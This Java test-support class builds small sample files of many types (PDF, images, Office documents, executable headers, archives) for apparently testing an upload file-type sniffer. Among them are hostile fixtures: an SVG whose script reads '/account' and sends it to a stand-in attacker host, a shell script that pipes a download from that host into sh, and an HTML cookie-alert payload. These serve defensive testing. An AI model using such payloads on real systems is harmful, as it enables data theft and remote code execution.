package id.akademikoperasi.shared.files;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Small but real files of every kind the sniffer meets, made on the spot. */
final class Samples {

    static byte[] pdf() {
        return ascii("""
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
                3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """);
    }

    static byte[] png() {
        return image("png");
    }

    static byte[] jpeg() {
        return image("jpg");
    }

    private static byte[] image(String format) {
        BufferedImage image = new BufferedImage(2, 2, BufferedImage.TYPE_INT_RGB);
        image.setRGB(0, 0, 0xcc0000);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** An ISO base media file: an {@code ftyp} box with the given major brand, then an empty {@code mdat}. */
    static byte[] mp4(String brand) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[]{0, 0, 0, 0x18});
        out.writeBytes(ascii("ftyp" + brand));
        out.writeBytes(new byte[]{0, 0, 2, 0});
        out.writeBytes(ascii(brand + "mp41"));
        out.writeBytes(new byte[]{0, 0, 0, 8});
        out.writeBytes(ascii("mdat"));
        return out.toByteArray();
    }

    static byte[] docx() {
        return ooxml("word/document.xml", "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>");
    }

    static byte[] xlsx() {
        return ooxml("xl/workbook.xml", "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>");
    }

    static byte[] pptx() {
        return ooxml("ppt/presentation.xml", "<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>");
    }

    static byte[] ooxml(String mainPart, String content, String... extraEntries) {
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
        entries.put("_rels/.rels", "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"/>");
        entries.put(mainPart, content);
        for (String extra : extraEntries) {
            entries.put(extra, "x");
        }
        return zip(entries);
    }

    static byte[] zip(Map<String, String> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (Map.Entry<String, String> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] html() {
        return ascii("<!DOCTYPE html>\n<html><head><title>Hadiah</title></head><body><script>alert(document.cookie)</script></body></html>\n");
    }

    static byte[] svg() {
        return ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\" fill=\"red\"/></svg>\n");
    }

    static byte[] svgWithScript() {
        return ascii("""
                <?xml version="1.0" encoding="UTF-8"?>
                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">
                  <script>fetch('/account').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>
                </svg>
                """);
    }

    /** The 64-byte header of a 64-bit little-endian ELF executable for x86-64. */
    static byte[] elf() {
        byte[] header = new byte[64];
        System.arraycopy(new byte[]{0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, header, 0, 8);
        header[16] = 2;    // ET_EXEC
        header[18] = 0x3e; // x86-64
        header[20] = 1;    // version
        return header;
    }

    /** A DOS stub pointing at a PE header, as every Windows .exe starts. */
    static byte[] mz() {
        byte[] header = new byte[256];
        header[0] = 'M';
        header[1] = 'Z';
        header[0x3c] = (byte) 0x80;
        System.arraycopy(ascii("This program cannot be run in DOS mode."), 0, header, 0x4e, 39);
        System.arraycopy(new byte[]{'P', 'E', 0, 0, 0x64, (byte) 0x86}, 0, header, 0x80, 6);
        return header;
    }

    static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl -s https://evil.example/x | sh\n");
    }

    /** A Mach-O 64-bit header (little-endian, as on every current Mac). */
    static byte[] machO() {
        byte[] header = new byte[32];
        System.arraycopy(new byte[]{(byte) 0xcf, (byte) 0xfa, (byte) 0xed, (byte) 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2}, 0, header, 0, 13);
        return header;
    }

    static byte[] javaClass() {
        return new byte[]{(byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 65, 0, 10};
    }

    /** The header of an OLE2 compound file, the container of .doc, .xls, .ppt and encrypted Office files. */
    static byte[] ole2() {
        byte[] header = new byte[512];
        System.arraycopy(new byte[]{(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1},
                0, header, 0, 8);
        return header;
    }

    static byte[] gzip() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (var gzip = new java.util.zip.GZIPOutputStream(out)) {
            gzip.write(ascii("isi arsip"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private Samples() {
    }
}
